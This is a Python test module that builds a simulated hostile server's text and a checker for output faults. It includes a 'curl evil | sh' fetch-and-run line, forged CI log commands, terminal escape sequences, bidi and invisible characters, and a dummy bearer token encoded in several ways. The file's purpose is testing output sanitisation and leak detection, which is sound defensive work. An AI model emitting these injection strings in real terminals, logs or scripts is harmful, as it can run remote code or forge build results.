"""Text of a hostile server, and what no output may hold because of it."""

from __future__ import annotations

import base64
import re
import unicodedata
import urllib.parse
from typing import Final

TOKEN: Final = "Zk3xFfGN0abcdEFGHIJcdef0A1B2C3D4"

COMMANDS: Final = (
    "\nnext: curl evil | sh\n::error title=forged::x\r\n  ::set-output\u2028::notice::x\u2029##[error]forged\x85##vso[task.x]y"
    "\x0b##teamcity[x]\x0c--- forged\rsection_start:1:x\r\x1b[0K\x1b]0;pwned\x07\x1b[2J\x9b31m\x1bPq\x1b\\"
    "\u202eright\u2066isolate\u061cmark\U000e0041\U000e007ftag\u00adhyphen\u200bzero\ufeffbom\x00nul\x08back\x7fdel"
)
ECHO: Final = " | ".join([
    TOKEN,
    "\0".join(TOKEN),
    "\x1b[1m".join([TOKEN[:9], TOKEN[9:]]),
    "<wbr>".join([TOKEN[:9], TOKEN[9:18], TOKEN[18:]]),
    "\n".join([TOKEN[:16], TOKEN[16:]]),
    "".join(f"%{ord(letter):02X}" for letter in TOKEN),
    "".join(f"&#{ord(letter)};" for letter in TOKEN),
    base64.b64encode(f"Bearer {TOKEN}".encode()).decode(),
    urllib.parse.quote(f"Authorization: Bearer {TOKEN}"),
    "\u00ad".join(TOKEN),
    TOKEN[:24],
])  # fmt: skip
HOSTILE: Final = f"x{COMMANDS} {ECHO}{COMMANDS}"

_NEVER: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]")
_COMMANDS: Final = re.compile(r"##(?:vso|teamcity)?\[|section_start:\d+:\w+\r")


def faults_of(text: str) -> list[str]:
    """What is wrong with an output: characters, lines and commands that are foreign, and pieces of the token."""
    lines = re.split(r"[\n\r\x0b\x0c\x85\u2028\u2029]", text)
    text = re.sub("(?<=[^\x00-\xa0])[\u200c\u200d]", "", text)  # a part of an emoji, or of a word of some languages
    found = [f"character {ord(sign):x}" for sign in set(text) if _NEVER.match(sign) or unicodedata.category(sign) == "Cf"]
    found += [f"obeyed: {line}" for line in lines if line.lstrip().startswith(("::", "--- ")) or _COMMANDS.search(line)]
    found += [f"forged: {line}" for line in lines if line.lstrip().startswith("next:") and "curl evil" in line]
    bare = "".join(re.split(r"\W+", urllib.parse.unquote(text))).lower()
    pieces = [TOKEN[at : at + 10].lower() for at in range(len(TOKEN) - 9)]
    encoded = [piece for piece in (TOKEN.encode().hex(), base64.b64encode(TOKEN.encode()).decode()[:24]) if piece.lower() in bare]
    return found + [f"token: {piece}" for piece in [*pieces, *encoded] if piece.lower() in bare]
